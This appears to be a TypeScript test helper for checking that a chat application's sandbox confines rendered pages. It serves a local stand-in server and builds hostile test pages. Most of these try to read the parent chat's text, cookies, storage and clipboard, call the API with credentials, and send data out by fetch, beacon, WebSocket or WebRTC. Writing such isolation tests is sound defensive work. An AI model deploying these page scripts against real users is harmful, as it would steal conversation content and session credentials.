import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { atEnd } from '../console-world.ts';

/** A server of another origin that a malicious page wants to reach. */
export interface Elsewhere {
  readonly origin: string;
  readonly udpPort: number;
  /** What has reached it: paths of requests, connections and packets. */
  readonly reached: readonly string[];
  /** Serves this page at `/`. */
  serve(html: string): void;
  forget(): void;
}

export async function elsewhere(): Promise<Elsewhere> {
  const reached: string[] = [];
  let page = '';
  const server = createServer(({ url = '' }, response) => {
    reached.push(url);
    response.writeHead(200, { 'content-type': url === '/' ? 'text/html' : 'text/plain' }).end(url === '/' ? page : '');
  });
  server.on('connection', () => reached.push('a connection'));
  const socket = createSocket('udp4');
  socket.on('message', () => reached.push('a packet'));
  server.listen(0, '127.0.0.1');
  socket.bind(0, '127.0.0.1');
  await Promise.all([once(server, 'listening'), once(socket, 'listening')]);
  atEnd(async () => {
    socket.close();
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    udpPort: socket.address().port,
    reached,
    serve: (html) => void (page = html),
    forget: () => void reached.splice(0),
  };
}

/** Elements that load something from the server as soon as they are in a page. */
export const loadingElements = ({ origin }: Elsewhere): string => `
<link rel="stylesheet" href="${origin}/stylesheet">
<link rel="manifest" href="${origin}/manifest">
<link rel="prefetch" href="${origin}/prefetch">
<link rel="preload" as="image" href="${origin}/preload">
<link rel="modulepreload" href="${origin}/modulepreload">
<link rel="preconnect" href="${origin}">
<link rel="dns-prefetch" href="${origin}">
<style>
  @import url(${origin}/import);
  @font-face { font-family: elsewhere; src: url(${origin}/font) }
  body { background: url(${origin}/background); font-family: elsewhere }
</style>
<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["${origin}/speculation"] }] }</script>
<script src="${origin}/script"></script>
<script type="module">import '${origin}/module'</script>
<p>Text</p>
<img src="${origin}/image" srcset="${origin}/srcset 2x">
<video src="${origin}/video" poster="${origin}/poster"></video>
<audio src="${origin}/audio" preload="auto"></audio>
<object data="${origin}/object"></object>
<embed src="${origin}/embed">
<iframe src="${origin}/frame"></iframe>
<iframe srcdoc="<img src='${origin}/inner-image'><script>fetch('${origin}/inner-fetch', { mode: 'no-cors' })</script>"></iframe>
<svg><image href="${origin}/svg-image" width="9" height="9" /></svg>
`;

/** A function that sends a packet to the server by WebRTC. */
const connecting = (udpPort: number): string => `
const connect = async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
  connection.createDataChannel('data');
  await connection.setLocalDescription(await connection.createOffer());
};
`;

/** A page whose inner frame tries to send a packet. */
export const connectingInnerFrame = ({ udpPort }: Elsewhere): string =>
  `<iframe srcdoc="<script>${connecting(udpPort)}; connect();</script>"></iframe>`;

/** A script that tries what a page could use to send or to learn something. It writes what happened as JSON into an `output` element. */
export const tryingScript = ({ origin, udpPort }: Elsewhere): string => `
<output></output>
<script>
const results = {};
const attempt = async (name, act) => {
  try {
    results[name] = String(await Promise.race([act(), new Promise((_, reject) => setTimeout(reject, 1_000))]));
  } catch {
    results[name] = 'refused';
  }
};
const settled = (object, success, failure) => new Promise((resolve, reject) => {
  object['on' + success] = () => resolve('open');
  object['on' + failure] = reject;
});
const send = () => {
  const request = new XMLHttpRequest();
  request.open('GET', '${origin}/xhr');
  request.send();
  return settled(request, 'load', 'error');
};
${connecting(udpPort)}
const main = async () => {
  await attempt('the text of the chat', () => parent.document.body.textContent);
  await attempt('the address of the chat', () => parent.location.href);
  await attempt('cookies', () => document.cookie);
  await attempt('local storage', () => localStorage.length);
  await attempt('session storage', () => sessionStorage.length);
  await attempt('a database', () => settled(indexedDB.open('database'), 'success', 'error'));
  await attempt('a cache', () => caches.open('cache'));
  await attempt('the top page', () => { top.location = '${origin}/top'; });
  await attempt('a window', () => open('${origin}/window') ?? Promise.reject());
  await attempt('a worker', () => settled(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message', 'error'));
  await attempt('a service worker', () => navigator.serviceWorker.register('/app/service-worker.js'));
  await attempt('the clipboard', () => navigator.clipboard.readText());
  await attempt('fetch', () => fetch('${origin}/fetch', { mode: 'no-cors' }));
  await attempt('fetch of the API', () => fetch('/user/me', { credentials: 'include' }));
  await attempt('a request', send);
  await attempt('a socket', () => settled(new WebSocket('${origin}/socket'.replace('http', 'ws')), 'open', 'error'));
  await attempt('events', () => settled(new EventSource('${origin}/events'), 'open', 'error'));
  // The connection can be made where it is not allowed to send anything.
  void connect().catch(() => undefined);
  navigator.sendBeacon('${origin}/beacon', 'text');
  parent.postMessage('escape', '*');
  setTimeout(() => { document.querySelector('output').textContent = JSON.stringify(results); }, 1_000);
};
main();
</script>
`;
